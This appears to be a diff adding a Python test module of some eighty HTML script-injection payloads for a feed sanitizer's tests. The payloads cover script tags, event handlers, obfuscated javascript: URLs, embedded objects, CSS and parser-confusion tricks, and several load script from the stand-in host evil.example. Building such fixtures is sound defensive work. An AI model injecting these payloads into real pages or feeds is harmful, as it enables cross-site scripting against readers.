@@ -1,0 +1,87 @@
+"""Script-injection vectors: each one, left unsanitized in a page or feed
+reader, runs script, loads active content or restyles the page.
+
+Written for newswire's tests from the well-known families of HTML
+injection (script elements, event handlers, dangerous URL schemes and their
+obfuscations, active embedded content, CSS, parser confusion).
+"""
+
+VECTORS = (
+    # script elements
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<script/src=https://evil.example/x.js></script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>alert(1);//<</script>",
+    "<script>/*</script><script>*/alert(1)</script>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<template><script>alert(1)</script></template>",
+    # event handlers
+    "<img src=x onerror=alert(1)>",
+    "<img src=x oNeRrOr=alert(1)>",
+    "<img src=x onerror=\"alert(1)\"//",
+    "<img/src=x/onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<div onmouseover=\"alert(1)\">hover</div>",
+    "<a href=\"https://example.org/\" onclick=\"alert(1)\">click</a>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<p onpointerenter=alert(1)>x</p>",
+    "<table background=\"javascript:alert(1)\"><tr><td onclick=alert(1)>x</td></tr></table>",
+    # dangerous URL schemes and their obfuscations
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\" javascript:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\"java&#x09;script:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
+    "<a href=\"javascript&colon;alert(1)\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<img src=\"javascript:alert(1)\">",
+    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
+    "<button formaction=\"javascript:alert(1)\">x</button>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<embed src=\"javascript:alert(1)\">",
+    "<base href=\"javascript:alert(1)//\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
+    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
+    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
+    # active and embedded content
+    "<iframe src=\"https://evil.example/\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"https://evil.example/x.swf\"></object>",
+    "<embed src=\"https://evil.example/x.swf\">",
+    "<applet code=\"x.class\"></applet>",
+    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
+    "<isindex action=\"javascript:alert(1)\" type=image>",
+    # CSS
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
+    "<div style=\"width:expression(alert(1))\">x</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    # parser confusion
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<img src=\"x` `<script>alert(1)</script>\"` `>",
+    "<div title=\"\"><script>alert(1)</script>\"></div>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<a href=\"https://example.org/\"\"onmouseover=\"alert(1)\">x</a>",
+)
